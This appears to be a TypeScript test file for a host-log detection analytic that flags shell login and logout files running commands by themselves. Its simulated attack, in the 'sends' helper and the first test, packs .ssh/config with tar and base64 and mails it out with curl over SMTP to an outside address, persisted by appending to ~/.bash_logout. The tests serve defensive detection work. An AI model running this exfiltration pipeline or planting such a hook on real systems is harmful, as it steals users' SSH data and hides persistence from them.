import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Process } from '../an0656-phishing-attachment-executed/audit-records.test-support.ts';
import { HOUR, HostLog, SECOND } from '../an0656-phishing-attachment-executed/host-log.test-support.ts';
import { scanLog, storyOf } from '../an0656-phishing-attachment-executed/stories.test-support.ts';

/** What a shell runs by itself as it begins or ends was typed by nobody. */

const OUT = 'box@example.net';
const HOOK = 'started by a hook, not by the person';
const TERMINAL = 'started from a terminal';
const LOGOUT = '/home/dev/.bash_logout';
const PROFILE = '/home/dev/.profile';

/** Packs keys and sends them past the relay. */
function sends(shell: Process): void {
  const group = shell.fork();
  group.pipeline('/usr/bin/tar czf - .ssh/config', '/usr/bin/base64');
  group
    .run(`/usr/bin/curl -s --url smtp://mx.example.net:587 --mail-rcpt ${OUT} -T /home/dev/.cache/n`)
    .connect('203.0.113.25', 587);
}

/** A login in which its person works, and leaves. */
function login(log: HostLog, act: (shell: Process) => void): void {
  const shell = log.shell('dev').read(PROFILE).read('/home/dev/.bash_history');
  log.wait(3 * SECOND);
  shell.run('/usr/bin/git status');
  act(shell);
  log.wait(HOUR);
}

async function told(log: HostLog) {
  const alerts = (await scanLog(log)).filter(({ analytic }) => analytic === 'AN0380');
  const story = storyOf(alerts, 'AN0380');
  const words = story.steps.map(({ kind, summary }) => `${kind} ${summary.replaceAll(/ \(pid \d+\)/g, '')}`);
  return { alerts, story, words, factors: story.factors.map(({ name }) => name as string) };
}

test('what a shell runs as it ends is one job over all logins, and who wrote it is told', async () => {
  const log = new HostLog();
  log.deliver();
  log.remote('dev', 'cat >> ~/.bash_logout', '203.0.113.9').write(LOGOUT);
  for (let i = 0; i < 3; i++) login(log, shell => sends(shell.read(LOGOUT)));
  const { alerts, story, words, factors } = await told(log);
  assert.equal(alerts.length, 1, 'one story');
  assert.equal(story.severity, 'high');
  assert.ok(factors.includes(HOOK) && !factors.includes(TERMINAL), factors.join());
  assert.equal(words[0], `file.written /bin/bash writes ${LOGOUT}, without a terminal`);
  assert.equal(words.filter(each => each.endsWith(`opens ${LOGOUT}, which it runs as it ends`)).length, 3);
  assert.match(story.story, /the login file \/home\/dev\/\.bash_logout of dev sent 3 messages/);
  assert.match(story.next[0] as string, /^Preserve \/home\/dev\/\.bash_logout/);
  const established = story.wouldChange.find(({ what }) => what.startsWith('the job had sent alike'));
  assert.equal(established?.why, '3 such sends are in the evidence');
});

test('what a shell starts at once as it begins stands in its file; nobody is seen to have written that', async () => {
  const log = new HostLog();
  log.deliver();
  sends(log.shell('dev').read(PROFILE));
  const { story, words, factors } = await told(log);
  assert.ok(factors.includes(HOOK), factors.join());
  assert.ok(words.includes(`file.opened /bin/bash opens ${PROFILE}, which it runs as it begins`), words.join('\n'));
  assert.ok(story.missing.includes(`Who wrote ${PROFILE} is not in the records.`));
});

test('what is typed later, in a login with such files, or run by a shell that was told a line, is none of theirs', async () => {
  const typed: Readonly<Record<string, (log: HostLog) => void>> = {
    'after the history was read': log => sends(log.shell('dev').read(PROFILE).read('/home/dev/.bash_history')),
    'seconds later': log => {
      const shell = log.shell('dev').read(PROFILE);
      log.wait(2 * SECOND);
      sends(shell);
    },
    'before the shell ends': log =>
      login(log, shell => {
        sends(shell);
        shell.read(LOGOUT);
      }),
    'another person reads it': log => login(log, shell => sends(shell.run(`/usr/bin/less ${LOGOUT}`).read(LOGOUT))),
    'a shell with a line': log => {
      const shell = log.shell('dev').run(['/bin/bash', '-c', 'x']).read('/home/dev/.bashrc');
      sends(shell);
    },
  };
  const wrong: string[] = [];
  for (const [name, act] of Object.entries(typed)) {
    const log = new HostLog();
    log.deliver();
    act(log);
    const { factors, words } = await told(log);
    if (factors.includes(HOOK) || words.some(each => each.includes('which it runs as'))) wrong.push(name);
  }
  assert.deepEqual(wrong, []);
});

test('one login that sent once is not all that the evidence may hold', async () => {
  const log = new HostLog();
  log.deliver();
  login(log, sends);
  const { story } = await told(log);
  const established = story.wouldChange.find(({ what }) => what.startsWith('the job had sent alike'));
  assert.equal(established?.why, 'each login counts by itself, and this one sent once');
});
